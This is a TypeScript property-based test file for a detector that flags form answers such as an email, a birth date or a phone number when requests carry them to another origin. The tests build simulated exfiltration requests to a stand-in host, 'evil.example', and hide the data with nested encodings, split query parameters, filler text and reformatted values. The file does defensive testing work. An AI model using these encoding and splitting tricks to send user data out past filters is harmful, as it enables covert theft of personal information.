import fc from 'fast-check';
import { expect, it } from 'vitest';
import { createFillJudge } from '@/safety/requests/judge-fill';
import { call, site } from './a-request';

const answer = 'ada.lovelace@example.org';

const bytesOf = (text: string) => new TextEncoder().encode(text);
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Ways in which a page may write a text; one may be within another. */
const ways: readonly ((text: string) => string)[] = [
  (text) => text,
  encodeURIComponent,
  base64,
  (text) => Buffer.from(text).toString('base64url'),
  (text) => Buffer.from(bytesOf(text)).toString('hex'),
  (text) => JSON.stringify({ a: { b: [text] } }),
  (text) => JSON.stringify(JSON.stringify({ text })),
  (text) => String(new URLSearchParams({ text })),
  (text) => [...text].map((letter) => letter.charCodeAt(0)).join(','),
  (text) => [...text].map((letter) => `=${letter.charCodeAt(0).toString(16)}`).join(''),
  (text) => [...text].map((letter) => `0x${letter.charCodeAt(0).toString(16)}`).join(' '),
  (text) => [...text].map((letter) => `\\${letter.charCodeAt(0).toString(8)}`).join(''),
  (text) => text.replaceAll(/./gsu, (letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`),
];

const request = (url: string, body: string, resourceType: string) =>
  call(body === '' ? 'GET' : 'POST', url, body, { resourceType });

function aJudge() {
  const judge = createFillJudge();
  judge.setOrigin(site);
  judge.addAnswer(answer, true);
  return judge;
}

const way = fc.constantFrom(...ways);
const writing = fc.constantFrom<(text: string) => string>(...ways, (text) => text.toUpperCase());
const kind = fc.constantFrom('Fetch', 'Image', 'Script', 'Ping', 'Font', 'Other');

it('finds an answer on its way to another origin, in a body, a query or a path, written in two ways, one within the other', () => {
  fc.assert(
    fc.property(writing, way, kind, (inner, outer, type) => {
      const text = outer(inner(answer));
      const judge = aJudge();
      expect(judge.isHeld(request('https://evil.example/c', text, type))).toBe(true);
      expect(judge.isHeld(request(`https://evil.example/c?d=${encodeURIComponent(text)}`, '', type))).toBe(true);
      expect(judge.isHeld(request(`https://evil.example/${encodeURIComponent(text)}`, '', type))).toBe(true);
    }),
  );
});

it('finds one that is taken apart', () => {
  const inside = fc.integer({ min: 1, max: answer.length - 1 });
  fc.assert(
    fc.property(inside, inside, (one, other) => {
      const [first, second] = [Math.min(one, other), Math.max(one, other)];
      const parts = { a: answer.slice(0, first), b: answer.slice(first, second), c: answer.slice(second) };
      const url = `https://evil.example/?${new URLSearchParams(parts)}`;
      expect(aJudge().isHeld(request(url, '', 'Image'))).toBe(true);
    }),
  );
});

/** An address may say by itself that it sends ("/apply"): that is held whatever was answered. */
it('lets pass what has no answer, where it would pass without any', () => {
  const examples: [string, string][] = [
    ['http://a.aa/apply', ' '],
    ['http://a.aa/', ' '],
  ];
  fc.assert(
    fc.property(fc.webUrl(), fc.string(), (url, body) => {
      const asked = request(url, body, 'Ping');
      expect(aJudge().isHeld(asked)).toBe(createFillJudge().isHeld(asked));
    }),
    { examples },
  );
});

it('finds one behind any number of words that say nothing', () => {
  fc.assert(
    fc.property(fc.integer({ min: 0, max: 3000 }), fc.constantFrom(base64, ways[4] ?? base64), (words, encode) => {
      const body = JSON.stringify({ t: `${'abcdefghij '.repeat(words)}${encode(answer)}` });
      expect(aJudge().isHeld(request('https://evil.example/c', body, 'Fetch'))).toBe(true);
    }),
    { numRuns: 20 },
  );
});

it.each([
  '12. März 1990',
  '12 mars 1990',
  '12 de março de 1990',
  '12. března 1990',
  '12 marca 1990',
  'March 12th, 1990',
  '12 марта 1990 г.',
  '1990年3月12日',
  '1990년 3월 12일',
  '12. maaliskuuta 1990',
  'Mar-12-1990',
])('finds a date that is written otherwise: %s', (written) => {
  const judge = createFillJudge();
  judge.setOrigin(site);
  judge.addAnswer('1990-03-12', true);
  expect(judge.isHeld(request('https://evil.example/c', `born=${written}`, 'Fetch'))).toBe(true);
});

it('finds seven digits of a telephone number, wherever they stand in it', () => {
  const digits = '442079460958';
  const judge = createFillJudge();
  judge.setOrigin(site);
  judge.addAnswer('+44 20 7946 0958', true);
  const parts = Array.from({ length: digits.length - 6 }, (_, at) => digits.slice(at, at + 7));
  expect(parts.filter((part) => !judge.isHeld(request(`https://evil.example/c?d=${part}`, '', 'Image')))).toEqual([]);
  expect(judge.isHeld(request('https://cdn.example/a.png?v=7941958', '', 'Image'))).toBe(false);
});

it('finds one whose characters are the numbers of a list', () => {
  const body = JSON.stringify({ kind: 'metric', d: Array.from(answer, (letter) => letter.charCodeAt(0)) });
  expect(aJudge().isHeld(request('https://evil.example/c', body, 'Fetch'))).toBe(true);
});
